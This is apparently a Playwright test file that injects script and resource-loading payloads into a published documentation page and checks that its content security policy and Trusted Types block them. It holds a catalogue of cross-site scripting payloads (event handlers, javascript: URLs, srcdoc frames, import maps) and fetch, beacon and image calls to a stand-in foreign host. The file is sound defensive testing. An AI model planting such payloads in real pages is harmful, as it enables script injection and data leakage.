import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import type { Page } from '@playwright/test';
import { startStaticServer } from '../../src/commands/static-server.ts';
import type { StaticServer } from '../../src/commands/static-server.ts';

declare global {
  interface Window {
    /** Set by every attack that runs. */
    attacked?: string;
    /** What an attempt at run time ended in. */
    outcomes?: Record<string, string>;
  }
}

const dist = join(import.meta.dirname, '../../dist');

/** Somebody else's host, and what was asked of it. */
let foreign: Server;
let foreignAddress: string;
const asked: string[] = [];

let folder: string;
let site: StaticServer;

test.beforeAll(async () => {
  foreign = createServer((request, response) => {
    asked.push(request.url ?? '');
    response
      .writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' })
      .end('window.attacked = "foreign"');
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  foreignAddress = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  folder = await mkdtemp(join(tmpdir(), 'guide-attack-'));
  await cp(dist, folder, { recursive: true });
  for (const ending of ['', '.br', '.gz']) await rm(join(folder, `role/index.html${ending}`));
  site = await startStaticServer({ folder, port: 0, mount: '/guide/' });
});

test.afterAll(async () => {
  await site.close();
  await rm(folder, { recursive: true });
  await new Promise((resolve) => foreign.close(resolve));
});

/** Puts markup into a published page, as somebody could who found a hole in what writes the pages. */
async function openAttacked(page: Page, markup: string, change = (html: string) => html): Promise<void> {
  asked.length = 0;
  const html = await readFile(join(dist, 'role/index.html'), 'utf8');
  const start = html.indexOf('>', html.indexOf('<main')) + 1;
  const attacked = html.slice(0, start) + markup.replaceAll('FOREIGN', foreignAddress) + html.slice(start);
  await writeFile(join(folder, 'role/index.html'), change(attacked));
  await page.goto(`${site.address}role/`);
  await page.waitForLoadState('networkidle');
}

const injections: Readonly<Record<string, string>> = {
  'an inline script': '<script>window.attacked = "script"</script>',
  'an inline module': '<script type="module">window.attacked = "module"</script>',
  'a script with an event handler': '<script src="FOREIGN/a.js" onerror="window.attacked = 1"></script>',
  'a foreign script': '<script src="FOREIGN/a.js"></script>',
  'a script of our own origin': '<script src="../favicon.svg"></script><script src="/a.js"></script>',
  'a script in an address': '<script src="data:text/javascript,window.attacked=1"></script>',
  'an import map':
    '<script type="importmap">{"imports":{"a":"FOREIGN/a.js"}}</script><script type="module">import "a"</script>',
  'an image with handlers':
    '<img src="x:" onerror="window.attacked = 1" alt><img src="../favicon.svg" onload="window.attacked = 1" alt>',
  'a drawing with a script':
    '<svg onload="window.attacked = 1"><script>window.attacked = 1</script><animate onbegin="window.attacked = 1" attributeName="x" dur="1s"/></svg>',
  'a style sheet': '<style>main { background: url(FOREIGN/style) }</style>',
  'a style attribute': '<p style="background: url(FOREIGN/attribute)">x</p>',
  'a foreign style sheet': '<link rel="stylesheet" href="FOREIGN/a.css">',
  'a foreign image':
    '<img src="FOREIGN/a.png" srcset="FOREIGN/b.png 2x" alt><input type="image" src="FOREIGN/c.png" alt>',
  'a foreign font':
    '<style>@font-face { font-family: x; src: url(FOREIGN/a.woff2) } p { font-family: x }</style>',
  'foreign frames':
    '<iframe src="FOREIGN/frame"></iframe><object data="FOREIGN/object"></object><embed src="FOREIGN/embed">',
  'a frame with its own markup':
    '<iframe srcdoc="<script>parent.attacked = 1</script><img src=x: onerror=parent.attacked=1>"></iframe>',
  'a frame that runs an address': '<iframe src="javascript:parent.attacked = 1"></iframe>',
  'foreign sound and film':
    '<video src="FOREIGN/v.mp4" poster="FOREIGN/p.png" autoplay></video><audio src="FOREIGN/a.mp3" autoplay></audio>',
  'a foreign manifest and preload':
    '<link rel="manifest" href="FOREIGN/m"><link rel="preload" as="script" href="FOREIGN/pl">',
  'what is fetched ahead':
    '<link rel="prefetch" href="FOREIGN/p"><link rel="modulepreload" href="FOREIGN/mp"><link rel="prerender" href="FOREIGN/pr"><script type="module">import "FOREIGN/mp"</script><script type="speculationrules">{"prefetch":[{"urls":["FOREIGN/sr"],"eagerness":"immediate"}]}</script>',
  'another policy for the page': `<meta http-equiv="content-security-policy" content="script-src * 'unsafe-inline'"><script>window.attacked = 1</script>`,
};

test('without the policy the attacks below would work', async ({ page }) => {
  const withoutPolicy = (html: string) =>
    html.replaceAll(/<meta http-equiv="?content-security-policy[^>]*>/g, '');
  await openAttacked(page, Object.values(injections).join(''), withoutPolicy);
  expect(await page.evaluate(() => window.attacked)).toBeDefined();
  expect(asked.length).toBeGreaterThan(10);
});

for (const [what, markup] of Object.entries(injections)) {
  test(`${what} in a page does nothing`, async ({ page }) => {
    await openAttacked(page, markup);
    expect(await page.evaluate(() => window.attacked)).toBeUndefined();
    expect(asked).toEqual([]);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  });
}

test('a link that runs code, a base for all links and a form to another place do nothing', async ({
  page,
}) => {
  await openAttacked(
    page,
    '<base href="FOREIGN/"><a id="attack-link" href="javascript:window.attacked = 1">x</a>' +
      '<form id="attack-form" action="FOREIGN/form"><input name="a" value="b"><button>x</button></form>',
  );
  const address = page.url();
  await page.evaluate(() => {
    for (const control of document.querySelectorAll<HTMLElement>('#attack-link, #attack-form button'))
      control.click();
  });
  await page.waitForLoadState('networkidle');
  expect(await page.evaluate(() => window.attacked)).toBeUndefined();
  expect(page.url()).toBe(address);
  const first = await page.evaluate(
    () => document.querySelector<HTMLAnchorElement>('main a[data-term]')?.href,
  );
  expect(first).toContain(site.address);
  expect(asked).toEqual([]);
});

test('search loads nothing from another place, whatever the page names', async ({ page }) => {
  await openAttacked(page, '', (html) =>
    html.replace(/( data-search=)[^ >]*/, `$1"${foreignAddress}/assets/search.js"`),
  );
  await page.keyboard.press('/');
  await page.getByRole('dialog').locator('input[name=q]').fill('prompt');
  await expect(page.getByRole('dialog').locator('[data-search-status=error]')).toBeVisible();
  expect(await page.evaluate(() => window.attacked)).toBeUndefined();
  expect(asked).toEqual([]);
});

test('code that got in nevertheless can neither turn text into code nor call home', async ({ page }) => {
  await openAttacked(page, '');
  // The policy "guide" is taken as soon as search is loaded.
  await page.keyboard.press('/');
  await page.getByRole('dialog').locator('input[name=q]').fill('prompt');
  await expect(page.getByRole('dialog').locator('a[data-result]').first()).toBeVisible();
  // From a timer, because the browser's own tools may do what pages may not.
  await page.evaluate((home) => {
    const outcomes: Record<string, string> = {};
    window.outcomes = outcomes;
    const text = 'window.attacked = "text"';
    const script = (): HTMLScriptElement => document.createElement('script');
    const attempts: Record<string, () => unknown> = {
      eval: () => globalThis.eval(text),
      function: () => new Function(text)(),
      timer: () => setTimeout(text, 0),
      markup: () => (document.body.innerHTML = `<img src="x:" onerror='${text}'>`),
      outer: () => (document.body.outerHTML = '<body></body>'),
      insert: () => document.body.insertAdjacentHTML('beforeend', '<b></b>'),
      write: () => document.write('<b></b>'),
      parse: () => new DOMParser().parseFromString('<b></b>', 'text/html'),
      range: () => document.createRange().createContextualFragment('<b></b>'),
      code: () => (script().textContent = text),
      source: () => (script().src = `${home}/a.js`),
      frame: () => (document.createElement('iframe').srcdoc = '<b></b>'),
      handler: () => document.body.setAttribute('onclick', text),
      worker: () => new Worker(`${home}/w.js`),
      policy: () => window.trustedTypes?.createPolicy('other', { createScriptURL: (url) => url }),
      again: () => window.trustedTypes?.createPolicy('guide', { createScriptURL: (url) => url }),
      'the policy itself': () => window.guidePolicy?.createScriptURL(`${home}/a.js`),
    };
    setTimeout(() => {
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          attempt();
          outcomes[name] = 'done';
        } catch (error) {
          outcomes[name] = error instanceof Error ? error.name : 'refused';
        }
      }
      void fetch(`${home}/fetch`).catch(() => (outcomes['fetch'] = 'refused'));
      navigator.sendBeacon(`${home}/beacon`, 'x');
      new Image().src = `${home}/image`;
      new EventSource(`${home}/events`);
    }, 0);
  }, foreignAddress);
  await expect.poll(() => page.evaluate(() => window.outcomes?.['fetch'])).toBe('refused');
  await page.waitForLoadState('networkidle');
  const outcomes = await page.evaluate(() => window.outcomes);
  expect(Object.entries(outcomes ?? {}).filter(([, outcome]) => outcome === 'done')).toEqual([]);
  expect(outcomes).toMatchObject({ policy: 'TypeError' });
  expect(await page.evaluate(() => window.attacked)).toBeUndefined();
  expect(asked).toEqual([]);
});
